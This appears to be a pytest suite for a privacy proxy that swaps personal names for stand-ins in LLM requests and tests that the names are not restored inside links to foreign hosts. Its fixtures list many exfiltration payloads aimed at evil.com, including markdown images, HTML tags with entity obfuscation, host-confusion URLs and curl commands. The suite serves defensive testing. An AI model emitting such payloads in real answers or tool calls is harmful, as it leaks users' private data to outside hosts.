"""Strangers' addresses in answers: nothing of the person is put into one."""

from __future__ import annotations

import json
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from privity.errors import MalformedError
from privity.infer.pseudonyms.links import Fence
from privity.infer.pseudonyms.pseudonymiser import Departure, Pseudonymiser
from privity.infer.pseudonyms.restore import FencedText
from privity.policy.sensitive import Kind, Mode
from scripted_detector import ScriptedDetector

CHAT, MESSAGES, RESPONSES = "/v1/chat/completions", "/v1/messages", "/v1/responses"
OWN = "docs.own-firm.com"
ASK = f"Anna Schmidt asks. See https://{OWN}/a"
EVIL = "![](https://evil.com/?q="


def depart(path: str = CHAT, body: dict[str, Any] | None = None) -> tuple[Departure, str]:
    """Return a departure, and the stand-in of Anna."""
    turns = "input" if path == RESPONSES else "messages"
    asked = body or {"model": "m", turns: [{"role": "user", "content": ASK}]}
    made = Pseudonymiser(ScriptedDetector({"Anna Schmidt": Kind.PERSON}))
    departure = made.replace(path, asked, Mode.REPLACE)
    stood = next(span.after for span in departure.spans if span.before == "Anna Schmidt")
    return departure, stood.split()[0]


def restored(departure: Departure, text: str) -> str:
    restorer = departure.answer("application/json")
    body = json.dumps({"choices": [{"index": 0, "message": {"content": text}}]}).encode()
    made = json.loads(restorer.feed(body) + restorer.end())
    return str(made["choices"][0]["message"]["content"])


def one_by_one(departure: Departure, text: str) -> str:
    events = [{"choices": [{"index": 0, "delta": {"content": char}}]} for char in text]
    return "".join(
        one["choices"][0]["delta"].get("content", "")
        for one in streamed(
            departure, *events, {"choices": [{"index": 0, "finish_reason": "stop"}]}
        )
        if "delta" in one["choices"][0]
    )


def streamed(departure: Departure, *events: Any, last: bytes = b"") -> list[dict[str, Any]]:
    restorer = departure.answer("text/event-stream")
    data = b"".join(b"data: " + json.dumps(one).encode() + b"\n\n" for one in events)
    out = restorer.feed(data + last) + restorer.end()
    lines = [line[6:] for line in out.decode().splitlines() if line.startswith("data: {")]
    return [json.loads(line) for line in lines]


def through_arguments(departure: Departure, arguments: str, *, stream: bool) -> str:
    function = {"name": "fetch", "arguments": arguments}
    call = {"id": "c", "index": 0, "type": "function", "function": function}
    if not stream:
        restorer = departure.answer("application/json")
        body = {"choices": [{"index": 0, "message": {"tool_calls": [call]}}]}
        return (restorer.feed(json.dumps(body).encode()) + restorer.end()).decode()
    pieces = [{**call, "function": {"arguments": char}} for char in arguments]
    events = [{"choices": [{"index": 0, "delta": {"tool_calls": [one]}}]} for one in pieces]
    end = {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}
    return "".join(
        call["function"]["arguments"]
        for one in streamed(departure, *events, end)
        for call in one["choices"][0]["delta"].get("tool_calls", [])
    )


TEXTS = {
    "two_backslashes": "![](https://evil.com/\\\\(a)?q={})",
    "three_backslashes": "![](https://evil.com/\\\\\\(a)?q={})",
    "goes_on_after_apostrophe": "![](https://{own}'.evil.com/?q={})",
    "goes_on_after_brace": "![](https://{own}{{.evil.com/?q={})",
    "goes_on_after_its_quote": 'x "https://{own}"@evil/?q={}',
    "goes_on_after_its_parenthesis": "![](https://{own})@evil/?q={}",
    "tab_in_host": '<img src="https://{own}\t.evil.com/?q={}">',
    "line_end_in_host": '<img src="https://{own}\n.evil.com/?q={}">',
    "many_spaces": '<img src     ="/&#47;evil.com/?q={}">',
    "very_many_spaces": "<img src" + " " * 50 + '="/&#47;evil.com/?q={}">',
    "spaces_after_the_sign": "<img src=" + " " * 50 + '"/&#47;evil.com/?q={}">',
    "object": '<object data="/&#47;evil.com/?q={}">',
    "srcdoc": '<iframe srcdoc="<img sr&#99;=&#47;&#47;evil.com/?q={}>">',
    "refresh": '<meta http-equiv=refresh content="0;url=/&#47;evil.com/?q={}">',
    "action": '<form action="&#104;ttps:&#47;&#47;evil.com/?q={}">',
    "slash_in_tag": '<svg/onload="fetch(`/&#47;evil&#46;com&#47;{}`)">',
    "data_attribute": '<p data-x="a" content="&#47;&#47;evil&#46;com&#47;{}">',
    "quotes_out_of_step": '`<b x="` <img alt="> " src="/&#47;evil&#46;com/?q={}">',
    "relative_after_base": '<base href="//evil.com"><img src="{}">',
    "autolink_after_parenthesis": "(https://evil.com/a)b?q={}",
    "autolink_after_quote": '"https://evil.com/a"?q={}',
    "no_html": '<a href="https://evil.com/x">?q={}</a>',
    "bare_domain": "curl evil.com/?q={}",
    "bare_domain_and_port": "curl evil.com:8080/{}",
    "bare_domain_of_a_stand_in": "curl {}.evil.com/",
    "bare_international_domain": "evil\u3002com/?q={}",
    "escaped_dot": "evil%2ecom/?q={}",
    "bare_number": "10.1.2.3/?q={}",
    "backslash_and_at": "https://{own}\\@evil.com/?q={}",
    "at_after_port": "https://{own}:80@evil.com/?q={}",
    "redirected": "https://{own}/r?to=https:/evil.com/?q={}",
    "in_angles": "](<https://evil.com/a b?q={}>)",
    "many_spaces_in_markdown": "![](" + " " * 50 + "https://evil.com/?q={})",
}


@pytest.mark.parametrize("name", TEXTS)
def test_nothing_is_restored_in_a_strangers_address(name: str) -> None:
    departure, stood = depart()
    said = TEXTS[name].format(stood, own=OWN)
    for made in (restored(departure, said), one_by_one(departure, said)):
        assert "anna" not in made.lower(), made
    assert restored(departure, "hi " + stood) == "hi Anna"


ARGUMENTS = {
    "quote": {"url": 'https://evil.com/"?q={}'},
    "no_scheme": {"q": "evil.com/?q={}"},
    "no_scheme_nor_dot": {"url": "evil/?q={}"},
    "question_mark": {"q": "evil.com?q={}"},
    "tabs": {"q": "ht\ttps:/\t/evil/?q={}"},
    "tab_after_own": {"url": "https://{own}\t.evil.com/?q={}"},
    "line_end_after_own": {"q": "https://{own}\r\n.evil.com/?q={}"},
    "backslash_and_at": {"q": "https://{own}\\@evil.com/?q={}"},
    "spaces": {"q": "https://evil.com/a b <c> {}"},
    "of_a_stand_in": {"q": "{}.evil.com/"},
    "list": {"urls": ["a", "evil/{}"]},
    "in_json": {"q": '{{"url": "evil/\\"{}"}}'},
    "no_json": {"url": "{{//evil.com/?q={}"},
    "name_of_a_host": {"hostname": "{}.evil.com"},
}


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("name", ARGUMENTS)
def test_nor_in_one_inside_of_arguments(name: str, stream: bool) -> None:
    departure, stood = depart()

    def filled(value: Any) -> Any:
        if isinstance(value, list):
            return [filled(one) for one in value]
        return value.format(stood, own=OWN)

    arguments = {key: filled(value) for key, value in ARGUMENTS[name].items()}
    out = through_arguments(departure, json.dumps(arguments), stream=stream)
    assert "anna" not in out.lower(), out
    block = {"type": "tool_use", "id": "t", "name": "f", "input": arguments}
    restorer = depart(MESSAGES)[0].answer("application/json")
    whole = restorer.feed(json.dumps({"content": [block]}).encode()) + restorer.end()
    assert b"Anna" not in whole
    assert "Anna" in through_arguments(departure, json.dumps({"to": stood}), stream=stream)


@pytest.mark.parametrize(
    "arguments", ["https://evil.com/?q={}", '{{"a": //evil.com/"{}"}}', '{{"a": evil.com?"{}"}}']
)
def test_nor_in_arguments_that_are_no_json(arguments: str) -> None:
    departure, stood = depart()
    for stream in (False, True):
        out = through_arguments(departure, arguments.format(stood), stream=stream)
        assert "Anna" not in out


@pytest.mark.parametrize(
    "said",
    [
        "See https://evil.com/a, {} said.", "[{}](https://evil.com/a) and {}", "a / b, {}/{}",
        "// {}", "**https://evil.com** {}", "x = '{}'; y <b> {}", "R&amp;D {}", "{}.", "({})",
        "https://docs.own-firm.com/{}", "(https://docs.own-firm.com/a?b={}).",
        '<a href="https://docs.own-firm.com/{}">{}</a>', "https://docs.own-firm.com. {}",
        "[{}](https://docs.own-firm.com/{}), {}", "docs.own-firm.com/{}", "e.g. {}? {}!",
        "https://docs.own-firm.com:8080/{}", "<b>{}</b>", '"https://docs.own-firm.com": {}',
    ],
)  # fmt: skip
def test_what_is_no_strangers_address_is_restored(said: str) -> None:
    departure, stood = depart()
    expected = said.replace("{}", "Anna")
    assert restored(departure, said.replace("{}", stood)) == expected
    assert one_by_one(departure, said.replace("{}", stood)) == expected


def chunk(text: str, finish: str | None = None) -> dict[str, Any]:
    return {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": finish}]}


@pytest.mark.parametrize("index", [0, 0.0, "0"])
@pytest.mark.parametrize("between", [[], ["stop"], ["event"], ["stop", "event"]])
def test_an_end_in_the_middle_of_a_stream_forgets_no_address(
    between: list[str], index: object
) -> None:
    departure, stood = depart()
    restorer = departure.answer("text/event-stream")
    first = chunk(EVIL, "stop" if "stop" in between else None)
    later = {"choices": [{"index": index, "delta": {"content": stood + ")"}}]}
    data = [b"data: " + json.dumps(one).encode() + b"\n\n" for one in (first, later)]
    out = restorer.feed((b"data: []\n\n" if "event" in between else b"").join(data))
    assert b"Anna" not in out + restorer.end()


@pytest.mark.parametrize("split", range(1, len(EVIL)))
def test_nor_wherever_the_end_comes(split: int) -> None:
    departure, stood = depart()
    said = "".join(
        one["choices"][0]["delta"].get("content", "")
        for one in streamed(
            departure, chunk(EVIL[:split], "stop"), chunk(EVIL[split:] + stood + ")", "stop")
        )
    )
    assert "Anna" not in said


def test_a_finish_reason_that_says_nothing_ends_nothing() -> None:
    departure, stood = depart()
    events = [chunk(char, "") for char in f"Dear {stood}, hi"]
    texts = [one["choices"][0]["delta"]["content"] for one in streamed(departure, *events)]
    assert "".join(texts) == "Dear Anna, hi"


def block(kind: str, **named: Any) -> dict[str, Any]:
    return {"type": f"content_block_{kind}", "index": 0, **named}


@pytest.mark.parametrize("where", ["start", "message", "stop"])
def test_the_text_that_a_block_begins_with_belongs_to_its_deltas(where: str) -> None:
    departure, stood = depart(MESSAGES)
    text = {"type": "text", "text": EVIL if where == "start" else ""}
    message = {"role": "assistant", "content": [{"type": "text", "text": EVIL}]}
    before = [block("delta", delta={"type": "text_delta", "text": EVIL}), block("stop")]
    events = [
        *([{"type": "message_start", "message": message}] if where == "message" else []),
        *([] if where == "message" else [block("start", content_block=text)]),
        *(before if where == "stop" else []),
        block("delta", delta={"type": "text_delta", "text": stood + ")"}),
        block("stop"),
    ]
    assert "Anna" not in json.dumps(streamed(departure, *events))


def test_a_block_that_begins_with_text_is_restored() -> None:
    departure, stood = depart(MESSAGES)
    start = block("start", content_block={"type": "text", "text": "Dear " + stood[:3]})
    rest = block("delta", delta={"type": "text_delta", "text": stood[3:] + ", hi"})
    made = streamed(departure, start, rest, block("stop"))
    said = made[0]["content_block"]["text"]
    assert said + "".join(one["delta"]["text"] for one in made[1:-1]) == "Dear Anna, hi"


@pytest.mark.parametrize("names", [("i", "j"), ("i", "i")])
@pytest.mark.parametrize("indexes", [(0, 0), (0, 1)])
@pytest.mark.parametrize("begins", ["delta", "part", "item", "response"])
def test_nor_do_the_names_of_an_item_hide_what_it_began_with(
    begins: str, indexes: tuple[int, int], names: tuple[str, str]
) -> None:
    departure, stood = depart(RESPONSES)
    if indexes[0] != indexes[1] and names[0] != names[1]:
        return  # two items for every client
    where = [
        {"item_id": name, "output_index": at, "content_index": 0}
        for name, at in zip(names, indexes, strict=True)
    ]
    text = {"type": "output_text", "text": EVIL}
    item = {"id": names[0], "type": "message", "content": [text]}
    first = {
        "delta": {"type": "response.output_text.delta", "delta": EVIL, **where[0]},
        "part": {"type": "response.content_part.added", "part": text, **where[0]},
        "item": {"type": "response.output_item.added", "item": item, "output_index": indexes[0]},
        "response": {"type": "response.created", "response": {"output": [item]}},
    }[begins]
    later = {"type": "response.output_text.delta", "delta": stood + ")", **where[1]}
    assert "Anna" not in json.dumps(streamed(departure, first, later))


def test_an_index_that_counts_from_the_end_is_refused() -> None:
    departure, _ = depart(MESSAGES)
    delta = {"type": "content_block_delta", "index": -1, "delta": {"text": "x"}}
    with pytest.raises(MalformedError):
        streamed(departure, delta)


def test_lists_that_clients_add_up_are_not_restored() -> None:
    departure, stood = depart()
    parts = [[{"type": "text", "text": text}] for text in (EVIL, stood + ")")]
    events = [{"choices": [{"index": 0, "delta": {"content": one}}]} for one in parts]
    assert "Anna" not in json.dumps(streamed(departure, *events))


STRANGERS: list[dict[str, Any]] = [
    {
        "tools": [
            {"type": "function", "function": {"name": "f", "description": "https://evil.com/"}}
        ]
    },
    {"response_format": {"type": "json_schema", "json_schema": {"description": "@evil.com"}}},
    {"metadata": {"a": "https://evil.com/"}},
    *(
        {"messages": [{"role": "user", "content": ASK}, {"role": role, "content": "@evil.com"}]}
        for role in ("Assistant", "model", "developer ", "tool", "function", "assistant", "")
    ),
]


@pytest.mark.parametrize("named", STRANGERS)
def test_hosts_that_others_name_are_not_the_persons_own(named: dict[str, Any]) -> None:
    messages = [{"role": "user", "content": ASK}]
    departure, stood = depart(CHAT, {"model": "m", "messages": messages, **named})
    assert "Anna" not in restored(departure, f"{EVIL}{stood})")


@pytest.mark.parametrize(
    ("path", "body"),
    [
        (CHAT, {"messages": [{"role": "developer", "content": ASK}]}),
        (MESSAGES, {"messages": [{"role": "user", "content": "x"}], "system": ASK}),
        (MESSAGES, {"messages": [], "system": [{"type": "text", "text": ASK}]}),
        (RESPONSES, {"input": "x", "instructions": ASK}),
        (RESPONSES, {"input": ASK}),
        ("/v1/completions", {"prompt": ASK}),
    ],
)
def test_hosts_that_the_person_names_are(path: str, body: dict[str, Any]) -> None:
    departure, stood = depart(path, body)
    said = {"content": [{"type": "text", "text": f"https://{OWN}/{stood}"}]}
    restorer = departure.answer("application/json")
    assert b"/Anna" in restorer.feed(json.dumps(said).encode()) + restorer.end()


def test_signed_thoughts_that_are_kept_are_bounded() -> None:
    departure, _ = depart(MESSAGES)
    for size in (8 << 20, 10):
        thought = {"type": "thinking", "thinking": "x" * size, "signature": f"s{size}"}
        restorer = departure.answer("application/json")
        restorer.feed(json.dumps({"content": [thought]}).encode())
        restorer.end()
    place = departure._map
    assert place is not None
    assert {key: len(text) for key, text in place.kept_texts.items()} == {"thinking s10": 10}


PIECES = st.sampled_from(
    [
        "own.com", "evil.com", "https://", "//", "/", "\\", "](", ")", "]:", "<img", "<b>", " ",
        "\t", "\n", "src", "=", '"', "'", ">", "<", "?q=", "&#47;", "&sol;", "www.", ":", "80",
        "@", "x", "mailto:", ".", "%2e", "ttp", "h", "é", " " * 40, "a" * 260, "/" * 140,
    ]
)  # fmt: skip
SAID = st.lists(PIECES, max_size=20).map("".join)
SHAPES = st.sampled_from([{}, {"string": True}, {"string": True, "address": True}])


def told_apart(pieces: list[str], named: dict[str, bool]) -> list[bool]:
    fence = Fence(frozenset({"own.com"}), **named)
    stretches = [one for piece in pieces for one in fence.feed(piece)] + fence.end()
    return [shut for size, shut in stretches for _ in range(size)]


@settings(max_examples=500, deadline=None)
@given(SAID, SHAPES, st.lists(st.integers(0, 400), max_size=8))
@example("mailto:" + "a" * 520 + " x", {"string": True, "address": True}, [])
def test_any_text_is_told_apart_the_same_however_it_is_split(
    text: str, named: dict[str, bool], cuts: list[int]
) -> None:
    whole = told_apart([text], named)
    assert len(whole) == len(text)
    assert told_apart(list(text), named) == whole
    ends = [0, *sorted({cut % (len(text) + 1) for cut in cuts}), len(text)]
    assert told_apart([text[a:b] for a, b in pairwise(ends)], named) == whole


ENDLESS = ["/", "\\", " ", "\t", "a", "a.", "](", "](      ", "//", "// x\n", "<a b=", "&", "&#",
           "]", "https:", ":", "[](//own.com", "=", "<", '"', "a" * 50 + "."]  # fmt: skip


@pytest.mark.parametrize("named", [{}, {"string": True}])
@pytest.mark.parametrize("unit", ENDLESS)
@pytest.mark.parametrize("before", ["", "](", "<a b=", "https://own.com/", "https://own.com"])
def test_what_waits_is_bounded(before: str, unit: str, named: dict[str, bool]) -> None:
    fence = Fence(frozenset({"own.com"}), **named)
    fence.feed(before)
    for char in (unit * 2000)[:2000]:
        fence.feed(char)
        assert fence.held <= 600


@pytest.mark.parametrize("named", [{}, {"string": True}])
@pytest.mark.parametrize("unit", ENDLESS)
@pytest.mark.parametrize("before", ["", "](", "<a b=", "https://own.com/", "https://own.com"])
def test_the_work_grows_with_the_text_alone(before: str, unit: str, named: dict[str, bool]) -> None:
    """A step looks at what waits and at what it gives on: what waits is bounded, and so is it."""

    def steps(size: int, piece: int) -> int:
        fence = Fence(frozenset({"own.com"}), **named)
        text = (before + unit * size)[:size]
        for at in range(0, size, piece):
            fence.feed(text[at : at + piece])
        fence.end()
        return fence.steps

    for piece in (1, 7, 4000):
        assert steps(4000, piece) <= 2 * steps(2000, piece) + 64
        assert steps(4000, piece) <= 3 * 4000


def test_the_white_space_after_an_opener_does_not_wait() -> None:
    departure, stood = depart()
    assert departure._map is not None
    restorer = FencedText(departure._map.backward(), Fence(frozenset()))
    said = restorer.feed("](")
    for _ in range(20):
        said += restorer.feed(" " * 1000)
        assert restorer.held <= 64
    said += restorer.feed(f"//evil.com/{stood}) {stood} ") + restorer.end()
    assert said.split() == ["](", f"//evil.com/{stood})", "Anna"]
